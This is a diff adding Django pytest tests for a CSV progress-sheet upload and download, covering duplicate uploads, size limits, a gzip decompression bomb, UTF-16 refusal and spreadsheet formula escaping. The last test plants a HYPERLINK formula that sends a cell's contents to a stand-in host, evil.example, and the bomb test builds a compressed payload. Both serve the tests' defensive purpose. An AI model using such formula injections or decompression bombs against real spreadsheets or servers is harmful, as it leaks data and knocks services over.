@@ -1,6 +1,7 @@
 """The progress sheet, there and back: download, fill in, upload; all rows or none."""
 
 import csv
+import html
 import io
 
 import pytest
@@ -109,3 +110,58 @@ def test_a_sheet_saved_by_a_spreadsheet_in_windows_1252_with_blank_lines_names_t
     assert response.status_code == 400
     assert [(p.line, p.column) for p in response.context["refusal"].problems] == [(4, "avancement")]
     assert not ProgressUpdate.objects.exists()
+
+
+def post_file(client, plan, name: str, content: bytes):
+    file = SimpleUploadedFile(name, content, content_type="text/csv")
+    return client.post(reverse("plan:progress_import", args=[plan.pk]), {"file": file})
+
+
+def test_the_same_sheet_uploaded_twice_records_nothing_the_second_time(personas, world, client_as):
+    client = client_as(personas["coordinator"])
+    rows = download(client, world.plan)
+    rows[0].update(statut="en cours", avancement="40", date="15/10/2026", texte="Permanence ouverte.")
+    rows[2].update(statut="done", avancement="100", texte="Guide publié.")
+    assert upload(client, world.plan, rows).status_code == 302
+    assert ProgressUpdate.objects.count() == 2
+    response = upload(client, world.plan, rows)
+    assert response.status_code == 302
+    assert ProgressUpdate.objects.count() == 2, "the second upload records nothing"
+    page = html.unescape(client.get(response.url).content.decode())
+    assert "0 point d'avancement enregistré" in page and "2 lignes étaient déjà sur la ligne du temps" in page
+    rows[0].update(texte="Permanence ouverte, deux jours par semaine.")
+    upload(client, world.plan, rows)
+    assert ProgressUpdate.objects.count() == 3, "a changed row is new news"
+
+
+def test_a_sheet_past_the_size_limit_is_refused_before_it_is_read(personas, world, client_as, settings):
+    settings.PLI_PROGRESS_SHEET_MAX_MB = 1
+    response = post_file(client_as(personas["coordinator"]), world.plan, "grand.csv", b"id;x\n" * 300_000)
+    assert response.status_code == 400
+    assert "au plus 1 Mo" in response.content.decode()
+    assert not ProgressUpdate.objects.exists()
+
+
+def test_a_compressed_sheet_that_unpacks_past_the_limit_is_refused(personas, world, client_as, settings):
+    import gzip
+
+    settings.PLI_PROGRESS_SHEET_MAX_MB = 1
+    bomb = gzip.compress(b"0" * (30 * 1024 * 1024))  # 30 KB that unpack to 30 MB
+    response = post_file(client_as(personas["coordinator"]), world.plan, "avancement.csv", bomb)
+    assert response.status_code == 400
+    assert "une fois décompressé, le fichier dépasse 1 Mo" in response.content.decode()
+
+
+def test_a_utf16_sheet_is_refused_as_an_unsupported_encoding(personas, world, client_as):
+    content = f"id;statut;avancement;texte\n{world.carried.pk};en cours;10;Bien.\n".encode("utf-16")
+    response = post_file(client_as(personas["coordinator"]), world.plan, "avancement.csv", content)
+    assert response.status_code == 400
+    assert "UTF-16" in response.content.decode()
+    assert not ProgressUpdate.objects.exists()
+
+
+def test_a_title_that_looks_like_a_formula_goes_out_as_text(personas, world, client_as):
+    world.carried.title = '=HYPERLINK("http://evil.example/?x="&A1,"clic")'
+    world.carried.save()
+    rows = download(client_as(personas["coordinator"]), world.plan)
+    assert rows[0]["recommandation"] == "'" + world.carried.title
